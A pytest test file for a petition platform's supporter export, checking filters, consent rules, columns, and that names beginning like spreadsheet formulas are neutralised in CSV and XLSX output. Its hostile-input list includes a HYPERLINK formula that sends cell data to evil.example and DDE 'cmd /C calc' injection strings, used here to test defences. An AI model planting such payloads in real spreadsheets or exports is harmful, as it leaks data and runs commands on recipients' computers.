"""What an export contains: filters against known data, consent, columns, formula safety."""

import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from campaign.exports import cells as export_cells
from campaign.exports.filters import ExportFilters

from .helpers import at, body, download, names, parse_csv, sign


def test_default_export_is_confirmed_supporters_who_agreed_to_updates(organizer_client, known):
    petition, _ = known
    response = download(organizer_client, petition)
    assert response.status_code == 200
    # Not Jonas (no updates), not pending/held/rejected, not erased, not unsubscribed, not the other petition.
    assert names(body(response)) == ["Aigerim Bekova", "Marie Dubois", "Old Supporter"]


def test_germany_this_week_gives_only_the_german_contactable_signer_of_that_week(organizer_client, known):
    petition, _ = known
    response = download(organizer_client, petition, country="DE", since="2026-03-02", until="2026-03-08")
    assert names(body(response)) == ["Aigerim Bekova"]


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        ({"country": "FR"}, ["Marie Dubois"]),
        ({"country": "KZ"}, []),
        ({"since": "2026-03-03"}, ["Marie Dubois"]),
        ({"until": "2026-03-02"}, ["Aigerim Bekova", "Old Supporter"]),
        ({"since": "2026-03-04", "until": "2026-03-04"}, ["Marie Dubois"]),
        ({"audience": "delivery"}, ["Aigerim Bekova", "Jonas Weber", "Marie Dubois", "Old Supporter", "Gone Quiet"]),
        (
            {"audience": "delivery", "country": "DE", "since": "2026-03-01"},
            ["Aigerim Bekova", "Jonas Weber", "Gone Quiet"],
        ),
        ({"audience": "delivery", "states": ["confirmed", "pending"], "country": "FR"}, ["Marie Dubois"]),
        ({"audience": "delivery", "states": ["pending"]}, ["Pending Person"]),
        # A contact list only carries addresses proven by the confirmation email.
        ({"states": ["pending"]}, []),
    ],
)
def test_filter_combinations_select_the_known_rows(organizer_client, known, filters, expected):
    petition, _ = known
    response = download(organizer_client, petition, **filters)
    assert response.status_code == 200
    assert sorted(names(body(response))) == sorted(expected)


def test_administrator_can_include_held_and_rejected_signatures(client, administrator, known):
    petition, _ = known
    client.force_login(administrator)
    response = download(client, petition, states=["suspicious", "rejected"], audience="delivery")
    rows = parse_csv(body(response))
    assert {(r["name"], r["state"]) for r in rows} == {("Held Person", "suspicious"), ("Rejected Person", "rejected")}


def test_contact_list_columns_and_values_are_exact(organizer_client, known):
    petition, rows = known
    data = body(download(organizer_client, petition, country="FR"))
    header = data.decode().splitlines()[0]
    assert (
        header == '"name","first_name","email","country","country_name","signed_at","confirmed_at","keep_updated",'
        '"consent_version","language","state"'
    )
    assert parse_csv(data) == [
        {
            "name": "Marie Dubois",
            "first_name": "Marie",
            "email": rows["marie"].email,
            "country": "FR",
            "country_name": "France",
            "signed_at": "2026-03-04T12:00:00Z",
            "confirmed_at": "2026-03-04T12:05:00Z",
            "keep_updated": "yes",
            "consent_version": "2026-11-27",
            "language": "en",
            "state": "confirmed",
        }
    ]


def test_delivery_list_has_no_email_addresses(organizer_client, known):
    petition, rows = known
    data = body(download(organizer_client, petition, audience="delivery"))
    assert "email" not in data.decode().splitlines()[0]
    assert all(row.email.encode() not in data for row in rows.values())
    assert b"@" not in data


def test_no_export_ever_carries_ip_addresses_or_tokens(client, administrator, known):
    petition, _ = known
    client.force_login(administrator)
    for audience in ("contactable", "delivery"):
        for file_format in ("csv", "xlsx"):
            data = body(
                download(
                    client,
                    petition,
                    audience=audience,
                    file_format=file_format,
                    states=["confirmed", "pending", "suspicious", "rejected"],
                )
            )
            text = data.decode("utf-8") if file_format == "csv" else _xlsx_text(data)
            assert "203.0.113.9" not in text
            assert "ip" not in [cell.strip('"') for cell in text.splitlines()[0].split(",")]
            assert "token" not in text.lower()


def _xlsx_text(data: bytes) -> str:
    sheet = load_workbook(io.BytesIO(data), read_only=True).active
    return "\n".join(
        ",".join(str(c) if c is not None else "" for c in row) for row in sheet.iter_rows(values_only=True)
    )


HOSTILE = [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Anna=Lena", "Anna=Lena"),
    ("Ana-Maria", "Ana-Maria"),
]


@pytest.mark.parametrize(("name", "cell"), HOSTILE)
def test_cells_starting_like_a_formula_are_neutralised_in_csv(organizer_client, petition, name, cell):
    sign(petition, name)
    assert names(body(download(organizer_client, petition, file_format="csv-excel"))) == [cell]
    # With LF line ends a carriage return inside a cell becomes an LF, so the cell stays quoted and whole.
    assert names(body(download(organizer_client, petition))) == [cell.replace("\r", "\n")]


def test_a_line_break_inside_a_name_cannot_start_a_row_of_its_own(organizer_client, petition):
    sign(petition, "Anna\r=1+1")
    sign(petition, "Bea\n@SUM(1)")
    plain = body(download(organizer_client, petition))
    assert b"\r" not in plain
    assert sorted(names(plain)) == ["Anna\n=1+1", "Bea\n@SUM(1)"]
    excel = body(download(organizer_client, petition, file_format="csv-excel"))
    assert sorted(names(excel)) == ["Anna\r=1+1", "Bea\n@SUM(1)"]


def test_hostile_names_stay_plain_text_in_xlsx(organizer_client, petition):
    for name, _ in HOSTILE:
        sign(petition, name)
    sign(petition, "Control\x01Char")
    data = body(download(organizer_client, petition, file_format="xlsx"))
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2, max_col=1)]
    assert all(cell.data_type == "s" for cell in cells)  # never a formula
    # XML reads a carriage return back as a line feed; the cell still starts with the apostrophe.
    expected = [cell.replace("\r", "\n") for _, cell in HOSTILE] + ["ControlChar"]
    assert sorted(cell.value for cell in cells) == sorted(expected)


def test_a_hostile_email_address_is_neutralised_too(organizer_client, petition):
    sign(petition, "Plain Name", email="=cmd@example.org")
    assert parse_csv(body(download(organizer_client, petition)))[0]["email"] == "'=cmd@example.org"


def test_excel_csv_has_a_byte_order_mark_and_crlf_and_plain_csv_has_neither(organizer_client, petition):
    sign(petition, "Zoë Ålander", signed=at(2))
    plain = body(download(organizer_client, petition, file_format="csv"))
    excel = body(download(organizer_client, petition, file_format="csv-excel"))
    assert not plain.startswith(b"\xef\xbb\xbf") and b"\r\n" not in plain
    assert excel.startswith(b'\xef\xbb\xbf"name","first_name","email",') and excel.count(b"\r\n") == 2
    assert "Zoë Ålander".encode() in plain and "Zoë Ålander".encode() in excel


def test_xlsx_export_has_the_same_rows_as_csv(organizer_client, known):
    petition, _ = known
    csv_rows = [list(r.values()) for r in parse_csv(body(download(organizer_client, petition, audience="delivery")))]
    data = body(download(organizer_client, petition, audience="delivery", file_format="xlsx"))
    sheet = load_workbook(io.BytesIO(data)).active
    xlsx_rows = [
        [c.strftime("%Y-%m-%dT%H:%M:%SZ") if isinstance(c, datetime) else c if c is not None else "" for c in row]
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert xlsx_rows == csv_rows


def test_xlsx_times_are_dates_a_spreadsheet_can_sort_not_text(organizer_client, known):
    petition, _ = known
    data = body(download(organizer_client, petition, country="FR", file_format="xlsx"))
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert row["signed_at"].value == datetime(2026, 3, 4, 12, 0)
    assert row["confirmed_at"].value == datetime(2026, 3, 4, 12, 5)
    assert row["signed_at"].is_date and "yy" in row["signed_at"].number_format


@pytest.mark.parametrize(
    ("name", "first_name"),
    [
        ("Aigerim Bekova", "Aigerim"),
        ("  Zoë   Ålander ", "Zoë"),
        ("Madonna", "Madonna"),
        ("Smith, John", "Smith"),
        ("=cmd|' /C calc'!A0 Bob", "'=cmd|'"),
    ],
)
def test_mail_merge_first_name_column_greets_by_the_first_word(organizer_client, petition, name, first_name):
    sign(petition, name)
    rows = parse_csv(body(download(organizer_client, petition)))
    assert [row["first_name"] for row in rows] == [first_name]


def test_country_column_has_the_code_and_the_countrys_name(organizer_client, petition):
    sign(petition, "A", country="KZ")
    sign(petition, "B", country="GB")
    rows = parse_csv(body(download(organizer_client, petition, audience="delivery")))
    assert sorted((row["country"], row["country_name"]) for row in rows) == [
        ("GB", "United Kingdom"),
        ("KZ", "Kazakhstan"),
    ]


def test_filters_refuse_what_makes_no_sense(petition):
    with pytest.raises(ValueError):
        ExportFilters(petition_id=petition.pk, states=())
    with pytest.raises(ValueError):
        ExportFilters(petition_id=petition.pk, states=("deleted",))
    with pytest.raises(ValueError):
        ExportFilters(petition_id=petition.pk, country="XX")
    with pytest.raises(ValueError):
        ExportFilters(petition_id=petition.pk, since=at(5).date(), until=at(4).date())
    with pytest.raises(ValueError):
        ExportFilters(petition_id=petition.pk, file_format="pdf")


def test_filters_round_trip_through_json_in_a_canonical_form(petition):
    filters = ExportFilters(
        petition_id=petition.pk,
        states=("rejected", "confirmed"),
        country="de",
        since=at(2).date(),
        file_format="xlsx",
        excel=True,
    )
    assert filters.states == ("confirmed", "rejected")
    assert filters.country == "DE" and filters.excel is False  # the Excel CSV option means nothing for XLSX
    assert ExportFilters.from_json(petition_id=petition.pk, data=filters.as_json()) == filters


def test_cell_formatting(petition):
    almaty = at(2, 10).astimezone(ZoneInfo("Asia/Almaty"))
    assert export_cells.format_row([None, True, False, almaty, "=x"]) == [
        "",
        "yes",
        "no",
        "2026-03-02T10:00:00Z",
        "'=x",
    ]


def test_no_country_name_needs_a_formula_guard_or_splits_a_cell():
    # COPY writes country_name as it is (cells.copy_cells): that is safe only while this holds.
    from django.utils import translation
    from django_countries import countries

    with translation.override("en"):
        names = [str(name) for _code, name in countries]
    assert len(names) > 240
    assert not [n for n in names if n.startswith(export_cells.FORMULA_TRIGGERS) or set(n) & set(';\r\n"')]
